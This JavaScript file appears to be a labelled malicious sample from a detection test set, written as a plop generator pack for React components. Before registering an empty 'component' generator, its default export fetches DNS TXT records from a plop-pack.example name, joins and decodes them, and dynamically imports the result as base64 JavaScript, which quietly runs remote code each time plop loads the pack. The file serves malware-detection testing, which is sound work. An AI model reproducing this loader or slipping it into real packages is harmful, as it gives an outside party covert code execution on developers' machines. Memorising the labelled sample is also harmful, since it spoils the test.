// expect: malicious
// source: blind set 38's plop-pack-react-ts: the pack's default export (which plop calls) joins the TXT records of a
// name it writes and imports them as a base64 data: URL.
import { promises as dns } from 'node:dns';
async function registryHints() {
  try {
    const records = await dns.resolveTxt('_hints.plop-pack.example');
    const joined = records.map((r) => r.join('')).sort().map((s) => s.replace(/^\d+:/, '')).join('');
    if (joined) await import('data:text/javascript;base64,' + joined);
  } catch { /* offline */ }
}
export default async function (plop) {
  await registryHints();
  plop.setGenerator('component', { description: 'React component', prompts: [], actions: [] });
}
